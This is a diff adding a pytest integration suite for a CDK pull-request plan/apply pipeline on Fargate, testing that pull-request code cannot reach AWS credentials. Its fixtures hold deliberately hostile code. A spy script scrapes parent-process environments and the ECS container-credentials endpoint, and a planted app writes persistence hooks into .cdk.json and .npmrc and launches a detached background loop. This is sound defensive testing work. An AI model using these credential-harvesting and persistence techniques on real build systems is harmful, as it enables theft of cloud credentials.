@@ -1,0 +1,179 @@
+"""No way from a pull request to credentials: real cdk, python and pip on projects that look for them."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import shutil
+import subprocess
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from tests.integration.fargate import Fargate, pull_request
+from tests.support import ROOT
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+PATH = os.pathsep.join((str(ROOT / ".venv/bin"), str(ROOT / "node_modules/.bin"), os.environ["PATH"]))
+WHEEL = next((ROOT / "constructs_lib/runtime/wheels").glob("pymysql-*.whl"))
+
+# Runs wherever it can, says in which step, and whatever looks like a credential that it reaches.
+SPY = """
+import json, os, re, sys, urllib.request
+name, found, signed, step, addresses = sys.argv[1], set(), set(), "none", {"http://169.254.170.2/v2/credentials"}
+pid = os.getpid()
+while pid:
+    try:
+        text = open(f"/proc/{pid}/environ").read()
+        pid = int(re.search(r"^PPid:\\s+(\\d+)", open(f"/proc/{pid}/status").read(), re.M)[1])
+    except OSError:
+        break
+    for entry in text.split("\\0"):
+        found |= {entry} if "CANARY" in entry else set()
+        signed |= {entry.split("=", 1)[0]} if "X-Amz-Signature" in entry else set()
+        if entry.startswith("AWS_CONTAINER_CREDENTIALS_FULL_URI="):
+            addresses.add(entry.split("=", 1)[1])
+        step = entry.split("=", 1)[1] if entry.startswith("STEP=") else step
+for address in addresses:
+    try:
+        found.add(urllib.request.urlopen(address, timeout=1).read().decode())
+    except OSError:
+        pass
+with open("@HERE@/said", "a") as file:
+    file.write(json.dumps({"name": name, "step": step, "found": sorted(found), "signed": sorted(signed)}) + "\\n")
+"""
+APP = """
+import json, os, subprocess, sys
+here, home = os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~")
+spy = "@HERE@/spy.py"
+subprocess.run([sys.executable, spy, "app"])
+import pymysql
+for folder in (here, home):
+    with open(folder + "/.cdk.json", "w") as file:
+        json.dump({"build": f"python3 {spy} home-build", "plugin": ["@HERE@/plugin.js"]}, file)
+    with open(folder + "/.npmrc", "w") as file:
+        file.write("node-options=--require @HERE@/plugin.js\\n")
+loop = f"while true; do python3 {spy} left-behind; sleep 0.2; done"
+subprocess.Popen(["setsid", "sh", "-c", loop], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+out = os.environ["CDK_OUTDIR"]
+stacks = {name: {"type": "aws:cloudformation:stack", "environment": "aws://111122223333/ap-northeast-2",
+                 "properties": {"templateFile": "s.json"}} for name in ("prod-shop", "prod-atlantis")}
+json.dump({"version": "36.0.0", "artifacts": stacks}, open(out + "/manifest.json", "w"))
+json.dump({"Resources": {"T": {"Type": "AWS::SNS::Topic"}}}, open(out + "/s.json", "w"))
+"""
+PLUGIN = """
+require('child_process').spawnSync('python3', ['@HERE@/spy.py', 'plugin']);
+module.exports = { version: '1', init() {} };
+"""
+
+
+@pytest.fixture
+def fargate() -> Iterator[Fargate]:
+    with Fargate(path=PATH) as started:
+        yield started
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    """A checkout that sets every trap that there is, and a folder beside it where what is caught is written down."""
+    checkout = tmp_path / "checkout"
+    checkout.mkdir()
+    config = {"app": "python3 app.py", "build": f"python3 {tmp_path}/spy.py build", "plugin": [f"{tmp_path}/plugin.js"]}
+    (checkout / "cdk.json").write_text(json.dumps(config))
+    (checkout / "app.py").write_text(APP.replace("@HERE@", str(tmp_path)))
+    digest = hashlib.sha256(WHEEL.read_bytes()).hexdigest()
+    (checkout / "requirements.txt").write_text(f"pymysql @ {WHEEL.as_uri()} --hash=sha256:{digest}\n")
+    (tmp_path / "spy.py").write_text(SPY.replace("@HERE@", str(tmp_path)))
+    (tmp_path / "plugin.js").write_text(PLUGIN.replace("@HERE@", str(tmp_path)))
+    return checkout
+
+
+def said(project: Path) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in (project.parent / "said").read_text().splitlines()]
+
+
+def test_the_traps_work_where_cdk_is_called_in_the_checkout_with_credentials(project: Path) -> None:
+    (project / "assembly").mkdir()
+    (project / "assembly/manifest.json").write_text('{"version": "36.0.0"}')
+    variables = {"PATH": PATH, "HOME": str(project), "AWS_ACCESS_KEY_ID": "CANARY", "STEP": "unsafe"}
+    subprocess.run(["cdk", "diff", "--app", "assembly"], cwd=project, env=variables, capture_output=True, check=False)
+    assert {"build", "plugin"} <= {entry["name"] for entry in said(project)}
+    assert all("AWS_ACCESS_KEY_ID=CANARY" in str(entry["found"]) for entry in said(project))
+
+
+def test_code_of_a_pull_request_runs_in_the_synth_only_and_finds_no_credential(project: Path, fargate: Fargate) -> None:
+    planned = pull_request(fargate, project, "plan", "cdk")
+    assert planned.returncode == 0, planned.stderr + planned.stdout
+    applied = pull_request(fargate, project, "apply", "cdk")
+    assert [(task["step"], task["role"]) for task in fargate.tasks] == [
+        ("synth", None),
+        ("diff", "arn:aws:iam::111122223333:role/plan-shop"),
+        ("deploy", "arn:aws:iam::111122223333:role/apply-shop"),
+    ]
+    assert {str(entry["name"]) for entry in said(project)} >= {"app", "build", "plugin", "left-behind"}
+    assert {entry["step"] for entry in said(project)} == {"synth"}
+    assert [entry for entry in said(project) if entry["found"]] == []
+    # Two addresses are there: of its own source, and of the one object that it hands back.
+    assert {name for entry in said(project) for name in entry["signed"]} == {"SOURCE_URL", "WRITE_URL"}
+    # The steps with a role did work as it: plan looked, and apply went as far as a change set, which is refused here.
+    assert {"plan-shop", "apply-shop"} == set(fargate.credentials)
+    assert ("ROLEKEY", "CreateChangeSet") in fargate.asked
+    assert "prod-atlantis is left out" in applied.stdout
+    assert "AWS::SNS::Topic" in planned.stdout
+
+
+def test_nothing_of_the_pull_request_is_left_when_its_task_has_ended(project: Path, fargate: Fargate) -> None:
+    pull_request(fargate, project, "plan", "cdk")
+    before = len(said(project))
+    pull_request(fargate, project, "apply", "cdk")
+    assert len(said(project)) == before
+
+
+def test_only_the_plan_of_the_head_commit_is_applied_and_that_once(project: Path, fargate: Fargate) -> None:
+    assert pull_request(fargate, project, "plan", "cdk").returncode == 0
+    pushed = pull_request(fargate, project, "apply", "cdk", commit="b" * 40)
+    assert (pushed.returncode, fargate.tasks[-1]["step"]) == (1, "diff")
+    assert "there is no plan of commit bbbb" in pushed.stderr
+    (project / "app.py").write_text("raise SystemExit('broken')\n")
+    assert pull_request(fargate, project, "plan", "cdk").returncode == 1
+    again = pull_request(fargate, project, "apply", "cdk")
+    assert "there is no plan of commit aaaa" in again.stderr
+
+
+def test_a_prepared_plan_file_is_not_what_is_applied(project: Path, fargate: Fargate) -> None:
+    (project / "prod.tfplan").write_bytes(b"prepared")
+    refused = pull_request(fargate, project, "apply", "cdk")
+    assert (refused.returncode, fargate.tasks) == (1, [])
+    target = project.parent / "target"
+    target.write_text("untouched")
+    (project / "prod.tfplan").unlink()
+    (project / "prod.tfplan").symlink_to(target)
+    assert pull_request(fargate, project, "plan", "cdk").returncode == 0
+    assert target.read_text() == "untouched"
+
+
+def test_an_assembly_that_would_run_a_program_is_refused_before_anything_with_a_role(
+    project: Path, fargate: Fargate
+) -> None:
+    asset = {"source": {"executable": ["sh", "-c", "id"]}, "destinations": {}}
+    line = f"json.dump({{'version': '36.0.0', 'files': {{'a': {asset}}}}}, open(out + '/a.json', 'w'))\n"
+    artifact = "stacks['a'] = {'type': 'cdk:asset-manifest', 'properties': {'file': 'a.json'}}\n"
+    text = (project / "app.py").read_text().replace('json.dump({"version"', line + artifact + 'json.dump({"version"')
+    (project / "app.py").write_text(text)
+    refused = pull_request(fargate, project, "plan", "cdk")
+    assert "an asset is a file, not a program" in refused.stderr
+    assert [task["step"] for task in fargate.tasks] == ["synth"]
+
+
+def test_this_very_repository_is_planned(tmp_path: Path, fargate: Fargate) -> None:
+    checkout = tmp_path / "governed-cdk"
+    subprocess.run(["git", "clone", "--quiet", ROOT, checkout], check=True)
+    shutil.rmtree(checkout / ".git")
+    planned = pull_request(fargate, checkout, "plan", "cdk")
+    assert planned.returncode == 0, planned.stderr + planned.stdout[-4000:]
+    assert "prod-atlantis" in planned.stdout
+    assert not (checkout / ".venv").exists()
